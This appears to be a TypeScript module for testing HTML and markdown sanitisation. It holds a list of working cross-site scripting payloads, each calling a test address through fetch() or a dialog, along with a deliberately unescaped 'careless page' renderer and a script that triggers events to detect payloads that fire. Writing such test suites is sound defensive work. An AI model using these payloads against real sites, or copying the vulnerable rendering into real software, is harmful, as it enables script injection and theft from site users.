/*
 * Texts that run, load or ask something when anybody takes them for markup (threat T47). Each calls home under a number
 * of its own, so that a test knows which one has got through, and each says where it would.
 */

/** Where a careless page would have to put a payload for it to work. */
export type Place =
  | 'text'
  | 'attribute'
  | 'attribute-single'
  | 'attribute-bare'
  | 'link'
  | 'frame'
  | 'picture'
  | 'textarea'
  | 'title'
  | 'style'
  | 'script'
  | 'comment'
  | 'markdown';

export type Payload = { readonly number: number; readonly place: Place; readonly text: string };

/** What calls home: `home` is the address, and `call` a script that asks for it. */
type Caller = { readonly home: string; readonly call: string; readonly number: number };

const texts: readonly (readonly [Place, (caller: Caller) => string])[] = [
  ['text', ({ call }) => `<script>${call}</script>`],
  ['text', ({ home }) => `<SCRIPT SRC=${home}></SCRIPT>`],
  ['text', ({ home }) => `<script type=module>import '${home}'</script>`],
  ['text', ({ call }) => `<<script>${call}//<</script>`],
  ['text', ({ call }) => `<img src=x onerror=${call}>`],
  ['text', ({ call }) => `<IMG/SRC="x"/OnErRoR=${call}>`],
  ['text', ({ home }) => `<img src="${home}">`],
  ['text', ({ home }) => `<image src="${home}">`],
  ['text', ({ home }) => `<img srcset="${home} 1x">`],
  ['text', ({ home }) => `<picture><source srcset="${home}"><img></picture>`],
  ['text', ({ call }) => `<svg onload=${call}>`],
  ['text', ({ call }) => `<svg><script>${call}</script></svg>`],
  ['text', ({ home }) => `<svg><image href="${home}"/></svg>`],
  ['text', ({ call }) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`],
  ['text', ({ call }) => `<svg><set onbegin=${call} attributeName=x>`],
  ['text', ({ home }) => `<svg><a xlink:href="javascript:1"><foreignObject><img src="${home}">`],
  ['text', ({ call }) => `<math><mtext><img src=x onerror=${call}>`],
  ['text', ({ home }) => `<iframe src="${home}"></iframe>`],
  ['text', ({ home }) => `<iframe srcdoc="<img src='${home}'>"></iframe>`],
  ['text', ({ call }) => `<iframe onload=${call}></iframe>`],
  ['text', ({ home }) => `<object data="${home}"></object>`],
  ['text', ({ home }) => `<embed src="${home}">`],
  ['text', ({ home }) => `<video src="${home}"></video>`],
  ['text', ({ home }) => `<video poster="${home}"></video>`],
  ['text', ({ call }) => `<video><source onerror=${call} src=x></video>`],
  ['text', ({ home }) => `<audio src="${home}" preload=auto></audio>`],
  ['text', ({ call }) => `<audio src=x onerror=${call}>`],
  ['text', ({ home }) => `<link rel=stylesheet href="${home}">`],
  ['text', ({ home }) => `<link rel=preload as=image href="${home}">`],
  ['text', ({ home }) => `<link rel=modulepreload href="${home}">`],
  ['text', ({ home }) => `<style>@import url(${home});</style>`],
  ['text', ({ home }) => `<style>body{background:url(${home})}</style>`],
  ['text', ({ call }) => `<style onload=${call}></style>`],
  ['text', ({ home }) => `<div style="background:url(${home})">x</div>`],
  ['text', ({ call }) => `<body onload=${call}>`],
  ['text', ({ home }) => `<body background="${home}">`],
  ['text', ({ home }) => `<table background="${home}"><tr><td>x</table>`],
  ['text', ({ call }) => `<details open ontoggle=${call}>`],
  ['text', ({ call }) => `<input autofocus onfocus=${call}>`],
  ['text', ({ call }) => `<div tabindex=0 onmouseover=${call}>x</div>`],
  ['text', ({ home }) => `<input type=image src="${home}">`],
  ['text', ({ call }) => `<a href="javascript:${call}">press</a>`],
  ['text', ({ home }) => `<a href="#" ping="${home}">press</a>`],
  ['text', ({ home }) => `<form action="${home}"><input name=a></form>`],
  ['text', ({ home }) => `<meta http-equiv=refresh content="0;url=${home}">`],
  ['text', ({ home }) => `<base href="${home}/"><img src=y>`],
  ['text', ({ home }) => `<noscript><p title="</noscript><img src='${home}'>">`],
  ['text', ({ home }) => `<div><template shadowrootmode=open><img src="${home}"></template></div>`],
  ['text', ({ number }) => `<script>alert(${number})</script>`],
  ['text', ({ number }) => `<svg/onload=prompt(${number})>`],
  ['text', ({ number }) => `<img src=x onerror=confirm(${number})>`],
  ['textarea', ({ home }) => `</textarea><img src="${home}">`],
  ['title', ({ home }) => `</title><img src="${home}">`],
  ['style', ({ home }) => `</style><img src="${home}">`],
  ['style', ({ home }) => `x{}body{background:url(${home})}`],
  ['script', ({ home }) => `</script><img src="${home}">`],
  ['script', ({ call }) => `';${call};'`],
  ['comment', ({ home }) => `--><img src="${home}">`],
  ['attribute', ({ home }) => `"><img src="${home}">`],
  ['attribute', ({ call }) => `" onmouseover="${call}`],
  ['attribute', ({ call }) => `" autofocus tabindex=0 onfocus="${call}`],
  ['attribute-single', ({ home }) => `'><img src="${home}">`],
  ['attribute-single', ({ call }) => `' onmouseover='${call}`],
  ['attribute-bare', ({ call }) => `x onmouseover=${call}`],
  ['link', ({ call }) => `javascript:${call}`],
  ['link', ({ call }) => `JaVaScRiPt:${call}`],
  ['link', ({ call }) => `java\tscript:${call}`],
  ['link', ({ call }) => `java\nscript:${call}`],
  ['link', ({ call }) => `\u0001 javascript:${call}`],
  ['frame', ({ home }) => `data:text/html,<img src="${home}">`],
  ['frame', ({ call }) => `javascript:${call}`],
  ['picture', ({ home }) => home.replace(/^http:/, '')],
  ['markdown', ({ call }) => `[press](javascript:${call})`],
  ['markdown', ({ call }) => `[press](JAVASCRIPT:${call} "title")`],
  ['markdown', ({ home }) => `![a picture](${home})`],
  ['markdown', ({ call }) => `[press](<javascript:${call}>)`],
  ['markdown', ({ home }) => `[press](x"><img/src="${home}">)`],
];

/** All of them. `home`: the address below which each calls under its number; a dialog says that number. */
export function markupPayloads(home: string): readonly Payload[] {
  return texts.map(([place, write], number) => {
    const address = `${home}/${number}`;
    // No quotes of either kind and no white space, so that it works within any attribute.
    return { number, place, text: write({ home: address, call: `fetch(\`${address}\`)`, number }) };
  });
}

/** The twin: a page that takes a payload at its word, as a careless one would. */
export function carelessPage({ place, text }: Payload): string {
  const whole = (inner: string): string => `<!doctype html><body>${inner}`;
  switch (place) {
    case 'text':
      return whole(text);
    case 'attribute':
      return whole(`<div title="${text}">x</div>`);
    case 'attribute-single':
      return whole(`<div title='${text}'>x</div>`);
    case 'attribute-bare':
      return whole(`<div title=${text}>x</div>`);
    case 'link':
      return whole(`<a href="${text}">press</a>`);
    case 'frame':
      return whole(`<iframe src='${text}'></iframe>`);
    case 'picture':
      return whole(`<img src="${text}">`);
    case 'textarea':
      return whole(`<textarea>${text}</textarea>`);
    case 'title':
      return `<!doctype html><title>${text}</title>`;
    case 'style':
      return whole(`<style>${text}</style>`);
    case 'script':
      return whole(`<script>const text = '${text}';</script>`);
    case 'comment':
      return whole(`<!-- ${text} -->`);
    case 'markdown':
      return whole(
        text.replace(/(!?)\[([^\]]*)\]\(<?([^)]*?\)?)(?: "title")?>?\)$/, (_, image, label, address) =>
          image === '!' ? `<img alt="${label}" src="${address}">` : `<a href="${address}">${label}</a>`,
        ),
      );
  }
}

/**
 * A script for any page: does what a person's hand would set off, and tells what has no business there. Links, buttons
 * and forms of the page's own are left alone.
 */
export const pokeScript = `(() => {
  const all = [...document.querySelectorAll('*')];
  const odd = [];
  for (const element of all) {
    for (const { name } of [...element.attributes]) if (/^on/i.test(name)) odd.push(element.localName + ' ' + name);
    for (const type of ['mouseover', 'focus']) element.dispatchEvent(new Event(type));
  }
  for (const link of document.querySelectorAll('a')) {
    const address = link.getAttribute('href') ?? '';
    if (/^\\s*$|^[#/]/.test(address) && !link.hasAttribute('ping')) continue;
    if (link.hasAttribute('ping') || !['http:', 'https:', 'mailto:', 'chrome-extension:'].includes(link.protocol)) {
      odd.push('a ' + address);
      link.click();
    } else if (link.host !== location.host && link.rel !== 'noopener noreferrer nofollow')
      odd.push('a without its relations ' + address);
  }
  for (const element of document.querySelectorAll('iframe, object, embed, base, audio, video')) odd.push(element.localName);
  for (const form of document.querySelectorAll('form[action]')) {
    odd.push('form');
    form.submit();
  }
  return odd;
})()`;
